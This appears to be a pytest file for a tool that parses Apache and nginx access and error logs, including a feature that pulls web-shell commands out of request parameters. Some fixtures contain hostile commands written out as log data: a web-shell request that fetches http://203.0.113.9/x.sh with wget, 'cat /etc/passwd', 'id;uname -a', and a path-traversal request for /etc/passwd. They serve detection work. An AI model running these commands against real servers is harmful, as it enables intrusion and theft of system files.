"""The access-log and error-log parsers on lines in the formats of real Apache/nginx logs."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from tools.logformats import ParsedLine, parse_line

REF = datetime(2026, 11, 26, 12, 0, tzinfo=UTC)


def access(line: bytes) -> ParsedLine:
    parsed = parse_line("access", line, reference=REF)
    assert parsed is not None, line
    return parsed


def error(line: bytes) -> ParsedLine:
    parsed = parse_line("error", line, reference=REF)
    assert parsed is not None, line
    return parsed


def test_combined_line_field_by_field() -> None:
    parsed = access(
        b'83.149.9.216 - - [17/May/2015:10:05:03 +0000] "GET /presentations/logstash-monitorama-2013/images/'
        b'kibana-search.png HTTP/1.1" 200 203023 '
        b'"http://semicomplete.com/presentations/logstash-monitorama-2013/" '
        b'"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1) AppleWebKit/537.36"'
    )
    assert parsed.format == "access"
    assert parsed.time == datetime(2015, 5, 17, 10, 5, 3, tzinfo=UTC)
    assert parsed.fields == {
        "client": "83.149.9.216",
        "ident": "-",
        "user": "-",
        "request": "GET /presentations/logstash-monitorama-2013/images/kibana-search.png HTTP/1.1",
        "method": "GET",
        "target": "/presentations/logstash-monitorama-2013/images/kibana-search.png",
        "path": "/presentations/logstash-monitorama-2013/images/kibana-search.png",
        "protocol": "HTTP/1.1",
        "status": 200,
        "size": 203023,
        "referer": "http://semicomplete.com/presentations/logstash-monitorama-2013/",
        "user_agent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1) AppleWebKit/537.36",
    }


def test_common_format_with_offset_hostname_client_and_no_size() -> None:
    parsed = access(
        b'crawl-66-249-66-1.googlebot.com - bob [26/Nov/2026:10:05:40 -0500] "HEAD / HTTP/1.0" 304 -'
    )
    assert parsed.fields["client"] == "crawl-66-249-66-1.googlebot.com"
    assert parsed.fields["user"] == "bob"
    assert parsed.fields["size"] is None and parsed.fields["status"] == 304
    assert "referer" not in parsed.fields
    assert parsed.time == datetime(2026, 11, 26, 15, 5, 40, tzinfo=UTC)


def test_vhost_combined() -> None:
    parsed = access(
        b'www.example.com:443 203.0.113.5 - - [26/Nov/2026:10:05:40 +0000] "GET /a HTTP/2.0" 200 5 "-" '
        b'"curl/8"'
    )
    assert parsed.fields["vhost"] == "www.example.com:443"
    assert parsed.fields["client"] == "203.0.113.5"
    assert parsed.fields["user_agent"] == "curl/8"


def test_web_shell_command_is_decoded_from_its_parameter() -> None:
    parsed = access(
        b'198.51.100.7 - - [26/Nov/2026:10:05:40 +0000] "GET /uploads/x.php?c=wget%20http%3A%2F%2F203.0.113.9'
        b'%2Fx.sh&t=1 HTTP/1.1" 200 12 "http://10.0.0.5/uploads/" "Mozilla/5.0"'
    )
    assert parsed.fields["path"] == "/uploads/x.php"
    assert parsed.fields["query"] == "c=wget%20http%3A%2F%2F203.0.113.9%2Fx.sh&t=1"
    assert parsed.fields["query_decoded"] == "c=wget http://203.0.113.9/x.sh&t=1"
    assert parsed.fields["command_param"] == "c"
    assert parsed.fields["command"] == "wget http://203.0.113.9/x.sh"
    # The referer's address is the referer's, never the client.
    assert parsed.fields["client"] == "198.51.100.7"


@pytest.mark.parametrize(
    ("query", "param", "command"),
    [
        ("cmd=cat+/etc/passwd", "cmd", "cat /etc/passwd"),
        ("page=1&Exec=id%3Buname%20-a", "Exec", "id;uname -a"),
        ("C=M;O=A", None, None),  # Apache's directory index sort, not a command
        ("q=cmd", None, None),
    ],
)
def test_command_parameter_set(query: str, param: str | None, command: str | None) -> None:
    line = f'1.2.3.4 - - [26/Nov/2026:10:05:40 +0000] "GET /s.php?{query} HTTP/1.1" 200 1 "-" "-"'.encode()
    fields = access(line).fields
    assert fields.get("command_param") == param
    assert fields.get("command") == command


def test_percent_decoded_path_keeps_the_raw_target() -> None:
    fields = access(
        b'1.2.3.4 - - [26/Nov/2026:10:05:40 +0000] "GET /a%20b/%2e%2e/x?y=1+2 HTTP/1.1" 404 0'
    ).fields
    assert fields["target"] == "/a%20b/%2e%2e/x?y=1+2"
    assert fields["path"] == "/a b/../x"
    assert fields["query_decoded"] == "y=1 2"


@pytest.mark.parametrize(
    "request_line",
    [b"-", b"", rb"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", b"\x16\x03\x01\x02\x00\xfc\xff"],
)
def test_malformed_requests_keep_the_other_fields(request_line: bytes) -> None:
    parsed = access(
        b'12.34.56.78 - - [20/Jan/2015:19:53:28 +0100] "' + request_line + b'" 400 47 "-" "-" "-"'
    )
    assert parsed.fields["client"] == "12.34.56.78"
    assert parsed.fields["status"] == 400 and parsed.fields["size"] == 47
    assert "method" not in parsed.fields and "path" not in parsed.fields
    assert parsed.time == datetime(2015, 1, 20, 18, 53, 28, tzinfo=UTC)


def test_request_line_without_protocol_and_with_an_escaped_quote() -> None:
    bare = access(b'1.2.3.4 - - [26/Nov/2026:10:05:40 +0000] "GET /x" 400 0').fields
    assert bare["method"] == "GET" and bare["path"] == "/x" and "protocol" not in bare
    quoted = access(
        b'1.2.3.4 - - [26/Nov/2026:10:05:40 +0000] "GET /\\" 200 1 \\"x HTTP/1.1" 400 0 "-" "a\\"b"'
    ).fields
    assert quoted["status"] == 400 and quoted["user_agent"] == 'a\\"b'


def test_apache_24_error_line() -> None:
    parsed = error(
        b"[Sat Mar 15 16:04:06.105212 2010] [core:error] [pid 17408:tid 140680873617152] [client "
        b"192.0.2.1:55280] "
        b"AH00126: Invalid URI in request GET /static/../../../a/../../../../etc/passwd HTTP/1.1"
    )
    assert parsed.time == datetime(2010, 3, 15, 16, 4, 6, 105212, tzinfo=UTC)
    assert parsed.fields == {
        "level": "error",
        "module": "core",
        "pid": 17408,
        "tid": "140680873617152",
        "client": "192.0.2.1",
        "code": "AH00126",
        "message": "Invalid URI in request GET /static/../../../a/../../../../etc/passwd HTTP/1.1",
    }


def test_apache_24_unnamed_module_and_ipv6_client() -> None:
    fields = error(
        b"[Mon Dec 23 07:49:01.981912 2013] [:error] [pid 3790] [client 2001:db8::7:46301] script "
        b"'/var/www/timthumb.php' not found or unable to stat"
    ).fields
    assert fields["client"] == "2001:db8::7" and fields["level"] == "error" and "module" not in fields


def test_apache_22_error_line_ignores_a_client_inside_the_message() -> None:
    parsed = error(
        b"[Sat Jun 01 02:17:42 2013] [error] [client 192.168.33.1] File does not exist: "
        b"/srv/http/site/[client 192.168.0.1] user root not found"
    )
    assert parsed.time == datetime(2013, 6, 1, 2, 17, 42, tzinfo=UTC)
    assert parsed.fields["client"] == "192.168.33.1"
    assert (
        parsed.fields["message"]
        == "File does not exist: /srv/http/site/[client 192.168.0.1] user root not found"
    )


def test_nginx_error_line_and_quoted_decoys() -> None:
    parsed = error(
        b'2012/04/09 11:53:29 [error] 2865#0: *66647 user "xyz, client: 6.6.6.6, server: a" was not found in '
        b'"/var/www/.htpasswd", client: 192.0.43.10, server: www.myhost.com, request: "GET /, client: '
        b"7.7.7.7 "
        b'HTTP/1.1", host: "www.myhost.com"'
    )
    assert parsed.time == datetime(2012, 4, 9, 11, 53, 29, tzinfo=UTC)
    assert parsed.fields == {
        "level": "error",
        "pid": 2865,
        "tid": "0",
        "connection": "66647",
        "client": "192.0.43.10",
        "server": "www.myhost.com",
        "request": "GET /, client: 7.7.7.7 HTTP/1.1",
        "message": 'user "xyz, client: 6.6.6.6, server: a" was not found in "/var/www/.htpasswd"',
    }


def test_nginx_error_without_context() -> None:
    fields = error(
        b"2016/09/30 08:36:06 [emerg] 1#1: bind() to 0.0.0.0:80 failed (98: Address already in use)"
    ).fields
    assert "client" not in fields
    assert fields["message"] == "bind() to 0.0.0.0:80 failed (98: Address already in use)"


def test_other_formats_are_not_web_lines() -> None:
    assert parse_line("access", b"Nov 26 03:14:07 web01 sshd[1]: x", reference=REF) is None
    assert (
        parse_line("error", b'1.2.3.4 - - [26/Nov/2026:10:05:40 +0000] "GET / HTTP/1.1" 200 1', reference=REF)
        is None
    )


def test_error_records_sent_through_syslog() -> None:
    apache = error(
        b"Feb 15 16:23:40 srv httpd/backend1[22034]: [authz_core:error] [pid 22036] [client 192.0.2.2:59392] "
        b"AH01630: client denied by server configuration: /home/backend1/"
    )
    assert apache.fields["client"] == "192.0.2.2" and apache.fields["module"] == "authz_core"
    assert apache.fields["host"] == "srv" and apache.fields["program"] == "httpd/backend1"
    assert apache.time == datetime(2026, 2, 15, 16, 23, 40, tzinfo=UTC) and apache.year_inferred
    nginx = error(
        b"Dec  9 21:35:20 host nginx[983479]: 2023/12/09 21:35:20 [notice] 983479#983479: *22174 limiting "
        b'requests, excess: 1.495 by zone "one", client: 192.0.2.2, server: example.com, '
        b'request: "GET / HTTP/1.1"'
    )
    assert nginx.fields["client"] == "192.0.2.2" and nginx.fields["level"] == "notice"
    assert nginx.time == datetime(2023, 12, 9, 21, 35, 20, tzinfo=UTC) and not nginx.year_inferred
    # Only the web servers' own records: any program can log text that looks like one.
    other = b"Feb 15 16:23:40 srv logger[1]: [core:error] [pid 1] [client 6.6.6.6:1] AH00126: x"
    assert parse_line("error", other, reference=REF) is None
